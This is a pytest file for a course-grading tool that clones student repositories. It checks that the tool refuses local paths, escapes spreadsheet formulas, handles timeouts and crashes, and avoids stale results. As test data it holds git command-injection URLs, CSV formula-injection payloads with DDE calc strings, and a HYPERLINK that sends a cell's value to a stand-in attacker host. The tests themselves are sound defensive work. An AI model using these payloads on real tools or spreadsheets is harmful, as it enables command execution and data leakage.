"""Cohorts under hostile input: a course CSV naming the grader's folders, formulas for the
spreadsheet, cache-name collisions, hangs, dying group processes, colliding ids, stale results,
rows sharing a repository."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import git
from tests.verifier.test_batch import HONEST, OVERCLAIMED, bare_remote, copy_tree
from verifier.batch.fetch import cache_path, normalised_url
from verifier.batch.runner import BatchOptions, run_batch
from verifier.batch.sources import Group, read_groups, remote_refusal, unique_ids
from verifier.cli import main
from verifier.render.spreadsheet import FORMULA_STARTS, safe_cell
from verifier.repo import gitcmd

HEADER = ["group_number", "student_1", "student_2", "student_3", "student_4", "student_5", "repo_url"]


def course_csv(path: Path, rows: list[tuple[str, str]]) -> Path:
    with open(path, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        for number, url in rows:
            writer.writerow([number, "s1", "s2", "", "", "", url])
    return path


def local_repo(root: Path, source: Path | None, files: dict[str, str] | None = None) -> Path:
    root.mkdir(parents=True)
    if source:
        copy_tree(source, root)
    for rel, text in (files or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "initial", env={"GIT_COMMITTER_DATE": "2026-01-20T12:00:00+01:00"})
    return root


def records_of(out: Path) -> dict[str, dict]:
    return {r["group"]: r for r in map(json.loads, (out / "results.jsonl").read_text().splitlines())}


# --- a course CSV names only remote repositories ------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        "https://github.com/a/b",
        "https://github.com/a/b.git",
        "ssh://git@github.com/a/b.git",
        "git@github.com:a/b.git",
    ],
)
def test_remote_urls_are_accepted(entry):
    assert remote_refusal(entry) is None


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ("~", "home-folder"),
        ("~/secrets", "home-folder"),
        ("/etc", "absolute path"),
        ("C:\\Users\\grader", "absolute path"),
        ("../other-course", "relative path"),
        ("projects/x", "relative path"),
        ("file:///home/grader/repo", "file://"),
        ("http://github.com/a/b", "transport"),
        ("ext::sh -c touch% /tmp/pwned", "spaces"),
        ("ssh://-oProxyCommand=touch/x", "no host"),
        ("-u@github.com:a/b", "relative path"),
    ],
)
def test_local_and_odd_entries_are_refused(entry, why):
    assert why in (remote_refusal(entry) or "")


def test_course_csv_rows_naming_local_folders_are_refused(tmp_path, capsys, monkeypatch):
    home = local_repo(tmp_path / "home", HONEST)  # the grader's own folder, with a report in it
    monkeypatch.setenv("HOME", str(home))
    source = course_csv(
        tmp_path / "groups.csv",
        [
            ("1", "~"),
            ("2", str(home)),
            ("3", os.path.relpath(home, Path.cwd())),
            ("4", home.as_uri()),
        ],
    )
    out = tmp_path / "out"
    assert main(["batch", str(source), "--out", str(out), "--jobs", "2"]) == 1
    records = records_of(out)
    assert {r["status"] for r in records.values()} == {"error"}
    assert "home-folder" in records["group_1"]["reason"]
    assert "absolute path" in records["group_2"]["reason"]
    assert "relative path" in records["group_3"]["reason"]
    assert "file://" in records["group_4"]["reason"]
    assert all(r["reason"].startswith("refused: ") for r in records.values())
    assert not (out / "groups").exists() or not list((out / "groups").iterdir())  # nothing read
    err = capsys.readouterr().err
    for group in ("group_1", "group_2", "group_3", "group_4"):
        assert f"{group}: refused: repo_url" in err
    rows = {r["group"]: r for r in csv.DictReader((out / "summary.csv").open())}
    assert "home-folder" in rows["group_1"]["reason"]


def test_allow_local_lets_a_course_csv_name_folders_and_text_lists_stay_local(tmp_path):
    repo = local_repo(tmp_path / "repo", HONEST)
    out = tmp_path / "out"
    source = course_csv(tmp_path / "groups.csv", [("1", str(repo))])
    assert main(["batch", str(source), "--out", str(out), "--jobs", "1", "--allow-local"]) == 0
    assert records_of(out)["group_1"]["status"] == "ok"
    listing = tmp_path / "repos.txt"
    listing.write_text(f"{repo}\n")
    assert [g.refused for g in read_groups(listing)] == [None]


# --- clone cache folder names ------------------------------------------------------------------


def _old_cache_name(url: str) -> str:
    """How the cache folder used to be named: 8 hex digits of SHA-1."""
    return hashlib.sha1(url.encode()).hexdigest()[:8]


def _colliding_folders(base: Path) -> tuple[Path, Path]:
    """Two repository paths whose file:// URLs had the same old cache folder name."""
    seen: dict[str, Path] = {}
    for n in range(2_000_000):
        path = base / f"g{n}" / "mlops.git"
        prefix = _old_cache_name(path.as_uri())
        if prefix in seen:
            return seen[prefix], path
        seen[prefix] = path
    raise AssertionError("no collision found")


def test_urls_whose_short_hashes_collided_get_their_own_clones(tmp_path):
    first, second = _colliding_folders(tmp_path / "remotes")
    for path, files_from in ((first, HONEST), (second, OVERCLAIMED)):
        url = bare_remote(tmp_path, path.parent.name, files_from)
        path.parent.mkdir(parents=True)
        os.rename(Path(url.removeprefix("file://")), path)
    assert _old_cache_name(first.as_uri()) == _old_cache_name(second.as_uri())
    source = course_csv(tmp_path / "groups.csv", [("1", first.as_uri()), ("2", second.as_uri())])
    out = tmp_path / "out"
    main(["batch", str(source), "--out", str(out), "--jobs", "1", "--allow-local"])
    records = records_of(out)
    assert records["group_1"]["exit_status"] == 0  # the honest repository
    assert records["group_2"]["exit_status"] == 1  # the overclaimed one, not group 1's verdicts
    names = sorted(p.name for p in (out / "repos").iterdir())
    assert len(names) == 2
    for url in (first.as_uri(), second.as_uri()):
        full = hashlib.sha256(normalised_url(url).encode()).hexdigest()
        assert cache_path(out / "repos", Group("x", url)).name in names
        assert cache_path(out / "repos", Group("x", url)).name.endswith("-" + full)


def test_cache_names_drop_credentials_and_keep_the_whole_url():
    cache = Path("/cache")
    with_token = cache_path(cache, Group("a", "https://user:SECRET@GitHub.com/Team/mlops.git"))
    plain = cache_path(cache, Group("a", "https://github.com/Team/mlops.git"))
    other = cache_path(cache, Group("a", "https://github.com/Other/mlops.git"))
    assert with_token == plain and "SECRET" not in with_token.name and "user" not in with_token.name
    assert plain != other and "Team" in plain.name and "Other" in other.name
    assert len(plain.name.rsplit("-", 1)[1]) == 64


# --- spreadsheet formulas -----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/x/"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_summary_csv_cells_never_start_a_formula(tmp_path):
    rows = [(str(n), formula) for n, formula in enumerate(FORMULAS, start=1)]
    rows.append(("=1+1", "https://127.0.0.1:9/unreachable.git"))
    source = course_csv(tmp_path / "groups.csv", rows)
    out = tmp_path / "out"
    main(["batch", str(source), "--out", str(out), "--jobs", "2", "--timeout", "30"])
    cells = [cell for row in csv.reader((out / "summary.csv").open(newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for formula in FORMULAS:
        assert "'" + formula in cells
    # and in results.jsonl the text stays exactly as written
    assert {r["repo"] for r in records_of(out).values()} >= set(FORMULAS)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_safe_cell_quotes_formula_starts(text):
    from verifier.safe_text import printable

    assert safe_cell(text) == "'" + printable(text)  # quoted, and a tab or CR shown escaped


def test_safe_cell_escapes_control_characters_a_terminal_would_act_on():
    cell = safe_cell("a\x1b[2Jb\nSummary")
    assert cell == "a\\e[2Jb\\nSummary" and "\x1b" not in cell and "\n" not in cell


def test_safe_cell_keeps_plain_text_and_numbers():
    assert safe_cell("group_1") == "group_1" and safe_cell(-3) == -3 and safe_cell("") == ""


# --- timeouts and prompts -----------------------------------------------------------------------


def _hang_on(name: str, seconds: float = 60):
    import verifier.run

    real = verifier.run.verify

    def verify(path, *args, **kwargs):
        if Path(path).name == name:
            time.sleep(seconds)
        return real(path, *args, **kwargs)

    return verify


def test_a_verification_over_the_timeout_is_that_groups_failure(tmp_path, monkeypatch):
    slow = local_repo(tmp_path / "slow", HONEST)
    quick = local_repo(tmp_path / "quick", HONEST)
    monkeypatch.setattr("verifier.run.verify", _hang_on("slow"))
    listing = tmp_path / "repos.txt"
    listing.write_text(f"{slow}\n{quick}\n")
    began = time.monotonic()
    records = run_batch(
        read_groups(listing), BatchOptions(out=tmp_path / "out", cache=tmp_path / "c", jobs=2, timeout=2)
    )
    assert time.monotonic() - began < 30
    by_group = {r["group"]: r for r in records}
    assert by_group["quick"]["status"] == "ok"
    assert by_group["slow"]["status"] == "error"
    assert by_group["slow"]["reason"] == "timed out after 2 s while verifying"


def test_a_clone_that_hangs_is_stopped_at_the_timeout(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)  # connections are accepted by the kernel, never answered
    try:
        url = f"https://127.0.0.1:{server.getsockname()[1]}/group/mlops.git"
        source = course_csv(tmp_path / "groups.csv", [("1", url)])
        out = tmp_path / "out"
        began = time.monotonic()
        status = main(["batch", str(source), "--out", str(out), "--jobs", "1", "--timeout", "2"])
        assert time.monotonic() - began < 30
    finally:
        server.close()
    assert status == 1
    reason = records_of(out)["group_1"]["reason"]
    assert "timed out after 2 s" in reason
    assert not list((out / "repos").glob("*"))  # no half-made clone left in the cache


class _AskForPassword(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 (the handler's name is fixed)
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="x"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


def test_a_clone_never_prompts_for_a_password(tmp_path):
    server = ThreadingHTTPServer(("127.0.0.1", 0), _AskForPassword)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        listing = tmp_path / "repos.txt"
        listing.write_text(f"http://127.0.0.1:{server.server_address[1]}/private/mlops.git\n")
        records = run_batch(
            read_groups(listing), BatchOptions(out=tmp_path / "out", cache=tmp_path / "c", timeout=20)
        )
    finally:
        server.shutdown()
    assert records[0]["status"] == "error"
    assert "terminal prompts disabled" in records[0]["reason"]


# --- a group's process dying --------------------------------------------------------------------


def test_the_batch_survives_group_processes_dying(tmp_path, monkeypatch):
    import verifier.run

    real = verifier.run.verify

    def verify(path, *args, **kwargs):
        if Path(path).name == "exits":
            os._exit(3)
        if Path(path).name == "segfaults":
            import ctypes
            import faulthandler

            faulthandler.disable()  # the test runner's crash report is not wanted here
            ctypes.string_at(0)  # a native parser crashing
        return real(path, *args, **kwargs)

    monkeypatch.setattr("verifier.run.verify", verify)
    names = ["first", "exits", "segfaults", "last"]
    for name in names:
        local_repo(tmp_path / name, HONEST if name != "last" else OVERCLAIMED)
    listing = tmp_path / "repos.txt"
    listing.write_text("".join(f"{tmp_path / n}\n" for n in names))
    out = tmp_path / "out"
    records = {
        r["group"]: r for r in run_batch(read_groups(listing), BatchOptions(out=out, cache=out / "c", jobs=2))
    }
    assert records["first"]["status"] == "ok" and records["first"]["exit_status"] == 0
    assert records["last"]["status"] == "ok" and records["last"]["exit_status"] == 1
    assert records["exits"]["reason"] == "the group's process died (exit status 3) while verifying"
    assert records["segfaults"]["reason"] == "the group's process died (signal SIGSEGV) while verifying"
    assert len(records_of(out)) == 4


# --- group ids --------------------------------------------------------------------------------


def test_group_ids_are_unique_and_stable(tmp_path):
    paths = {
        "a/mlops": local_repo(tmp_path / "a" / "mlops", HONEST),
        "b/mlops": local_repo(tmp_path / "b" / "mlops", OVERCLAIMED),
        "c/mlops_2": local_repo(tmp_path / "c" / "mlops_2", HONEST, {"late.txt": "x"}),
    }
    listing = tmp_path / "repos.txt"
    listing.write_text("".join(f"{p}\n" for p in paths.values()))
    out = tmp_path / "out"
    options = BatchOptions(out=out, cache=out / "c", jobs=2)
    first = run_batch(read_groups(listing), options)
    ids = [r["group"] for r in first]
    assert len(set(ids)) == 3 and "mlops_2" in ids
    for record in first:
        data = json.loads((out / record["result"]).read_text())
        assert data["repository"]["root"] == record["repo"]  # each id holds its own repository
    assert {r["repo"] for r in first} == {str(p) for p in paths.values()}
    assert {r["exit_status"] for r in first if "mlops-" in r["group"]} == {0, 1}
    again = run_batch(read_groups(listing), options)
    assert [(r["group"], r["repo"]) for r in again] == [(r["group"], r["repo"]) for r in first]
    assert all(r.get("skipped") for r in again)
    assert len(records_of(out)) == 3 and len(list((out / "groups").glob("*.inputs.json"))) == 3


def test_ids_do_not_depend_on_row_order_or_case():
    groups = [Group("mlops", "/x/a"), Group("MLOps", "/x/b"), Group("mlops_2", "/x/c")]
    ids = [g.id for g in unique_ids(groups)]
    assert len({i.casefold() for i in ids}) == 3 and ids[2] == "mlops_2"
    reordered = {g.repo: g.id for g in unique_ids(list(reversed(groups)))}
    assert reordered == {g.repo: g.id for g in unique_ids(groups)}
    same_repo_twice = unique_ids([Group("x", "/r"), Group("x", "/r")])
    assert len({g.id for g in same_repo_twice}) == 2


# --- stale results ------------------------------------------------------------------------------


def test_a_rerun_with_other_inputs_verifies_again(tmp_path):
    repo = local_repo(tmp_path / "mlops", OVERCLAIMED)
    listing = tmp_path / "repos.txt"
    listing.write_text(f"{repo}\n")
    out = tmp_path / "out"

    def run(**changes) -> dict:
        options = BatchOptions(out=out, cache=out / "c", jobs=1, **changes)
        return run_batch(read_groups(listing), options)[0]

    assert not run().get("skipped")
    inputs = json.loads((out / "groups" / "mlops.inputs.json").read_text())
    assert inputs["head"] == git(repo, "rev-parse", "HEAD").strip()
    assert {"tool_version", "at", "catalog_sha256", "probes", "repository"} <= set(inputs)
    assert run().get("skipped")
    at = run(at="2026-01-19 12:00")  # before the only commit: a different result
    assert not at.get("skipped") and at["status"] == "error"
    assert not run(at="2026-01-19 12:00").get("skipped")  # a failed group is tried again
    assert run().get("skipped")  # the first result, made with these inputs, still stands
    from importlib import resources

    catalog = tmp_path / "items.yaml"
    catalog.write_text(
        resources.files("verifier.catalog").joinpath("items.yaml").read_text() + "\n# edited\n"
    )
    assert not run(catalog=str(catalog)).get("skipped")
    assert run(catalog=str(catalog)).get("skipped")
    assert not run(probes=("git", "workflows")).get("skipped")
    (repo / "extra.txt").write_text("a new commit")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "more")
    assert not run().get("skipped")
    assert run().get("skipped")
    assert not run(force=True).get("skipped")


# --- rows sharing a repository -------------------------------------------------------------------


def count_clones(monkeypatch, log: Path) -> None:
    """Every clone from now on adds a line to ``log`` (written from any group process)."""
    real_clone = gitcmd.clone

    def counting_clone(*args, **kwargs):
        with open(log, "a") as handle:
            handle.write("clone\n")
        return real_clone(*args, **kwargs)

    monkeypatch.setattr(gitcmd, "clone", counting_clone)


def test_rows_with_the_same_url_share_one_clone(tmp_path, monkeypatch):
    url = bare_remote(tmp_path, "shared", HONEST)
    log = tmp_path / "git-calls.log"
    count_clones(monkeypatch, log)
    source = course_csv(tmp_path / "groups.csv", [("1", url), ("2", url), ("3", url)])
    out = tmp_path / "out"
    assert main(["batch", str(source), "--out", str(out), "--jobs", "3", "--allow-local"]) == 0
    records = records_of(out)
    assert {r["status"] for r in records.values()} == {"ok"}
    assert len({r["commit"] for r in records.values()}) == 1
    assert log.read_text().split() == ["clone"]
    assert [p.name for p in (out / "repos").iterdir()] == [cache_path(out / "repos", Group("x", url)).name]


def test_rows_sharing_a_failing_url_fail_together_without_cloning_again(tmp_path, monkeypatch):
    log = tmp_path / "git-calls.log"
    count_clones(monkeypatch, log)
    missing = (tmp_path / "missing.git").as_uri()
    source = course_csv(tmp_path / "groups.csv", [("1", missing), ("2", missing)])
    out = tmp_path / "out"
    assert main(["batch", str(source), "--out", str(out), "--jobs", "2", "--allow-local"]) == 1
    reasons = {r["reason"] for r in records_of(out).values()}
    assert len(reasons) == 1 and "clone failed" in reasons.pop()
    assert log.read_text().split() == ["clone"]
